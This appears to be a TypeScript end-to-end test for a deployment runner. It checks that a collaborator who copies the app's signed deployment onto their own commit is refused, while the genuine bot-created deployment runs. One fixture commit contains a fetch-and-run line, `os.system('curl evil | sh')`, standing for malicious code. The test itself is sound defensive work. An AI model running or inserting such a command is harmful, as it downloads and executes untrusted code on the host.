/**
 * The deployment attack against the fake GitHub, with state flowing for real: the app's signed
 * deployment is created with the installation token (so GitHub records the bot as its creator), and a
 * write collaborator copies its payload into a deployment of their own commit with their personal
 * access token. The runner's real poller must run the first and refuse the second.
 */
import { execFileSync } from "node:child_process";
import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { ProbotOctokit } from "probot";
import { beforeEach, describe, expect, it } from "vitest";
import { createGitHubReporter } from "../../runner/github/report/github-reporter.js";
import { createPoller } from "../../runner/github/poll/poller.js";
import { buildDeploymentRequest } from "../../src/deploy/deployment-request.js";
import { GITHUB_API, TEST_OWNER, TEST_REPO, useGitHubHarness } from "../helpers/github.js";
import { testSigningKey, TEST_FULL_REPO } from "../helpers/signing.js";
import { createFakeGitHub, type FakeGitHub } from "../e2e/fake-github.js";
import { openGitStore, type GitStore } from "../e2e/git-store.js";
import {
  captureLog,
  fakePipeline,
  tempStateDir,
  testClient,
  testConfig,
  testRunnerTrust,
} from "../runner/github/fixtures.js";

const gh = useGitHubHarness();

function commit(store: GitStore, parent: string | null, text: string): string {
  const tree = store.writeTree(null, [
    { path: "services/api/app.py", mode: "100644", sha: store.writeBlob(Buffer.from(text)) },
  ]);
  return store.writeCommit({ tree, parents: parent ? [parent] : [], message: text, author: "alice" });
}

let fake: FakeGitHub;
let approved: string;
let evil: string;
beforeEach(() => {
  const dir = mkdtempSync(join(tmpdir(), "gate-origin-"));
  execFileSync("git", ["init", "--bare", "--quiet", dir]);
  const store = openGitStore(dir);
  approved = commit(store, null, "print('approved')\n");
  evil = commit(store, approved, "import os; os.system('curl evil | sh')\n");
  store.writeRef("heads/main", evil);
  fake = createFakeGitHub(gh, store);
});

describe("a collaborator's copy of the app's deployment, through the fake GitHub", () => {
  it("the runner runs the app's deployment and refuses the copy on the collaborator's commit", async () => {
    const bot = testClient();
    const request = buildDeploymentRequest(
      { service: "api", sha: approved, reason: "command", requestedBy: "alice", pr: null },
      testConfig(),
      { key: testSigningKey(), repo: TEST_FULL_REPO, signedAt: new Date() },
    );
    const created = await (
      await bot.octokit()
    ).rest.repos.createDeployment({ owner: TEST_OWNER, repo: TEST_REPO, ...request });

    const mallory = new ProbotOctokit({
      auth: { token: fake.userToken("mallory") },
      baseUrl: GITHUB_API,
      retry: { enabled: false },
      throttle: { enabled: false },
    });
    const copied = await mallory.rest.repos.createDeployment({
      owner: TEST_OWNER,
      repo: TEST_REPO,
      ...request,
      ref: evil,
    });

    const genuine = created.data as { id: number };
    const copy = copied.data as { id: number };
    const log = captureLog();
    const stateDir = tempStateDir();
    const pipeline = fakePipeline({ status: "success", reason: "deployed" });
    const poller = createPoller({
      gh: bot,
      reporter: createGitHubReporter({ gh: bot, stateDir, log, runner: "host-1" }),
      stateDir,
      workspace: "/srv/stack",
      gitRemote: "https://github.com/acme/stack.git",
      loadConfig: testConfig,
      environments: ["production"],
      env: {},
      log,
      trust: testRunnerTrust(),
      runDeploy: pipeline.run,
    });

    const summary = await poller.pass();

    expect(fake.deployments.map((d) => [d.id, d.creator.login])).toEqual([
      [genuine.id, "orchestrator[bot]"],
      [copy.id, "mallory"],
    ]);
    expect(summary.rejected).toEqual([copy.id]);
    expect(summary.deployed).toEqual([genuine.id]);
    expect(pipeline.calls.map((c) => c.ref)).toEqual([approved]);
    expect(
      fake.statuses
        .filter((s) => s.deployment === copy.id)
        .map((s) => [s.state, s.description, s.creator.login]),
    ).toEqual([
      ["error", "refused: created by @mallory, not by the app (orchestrator[bot])", "orchestrator[bot]"],
    ]);
    expect(fake.problems).toEqual([]);
  });
});
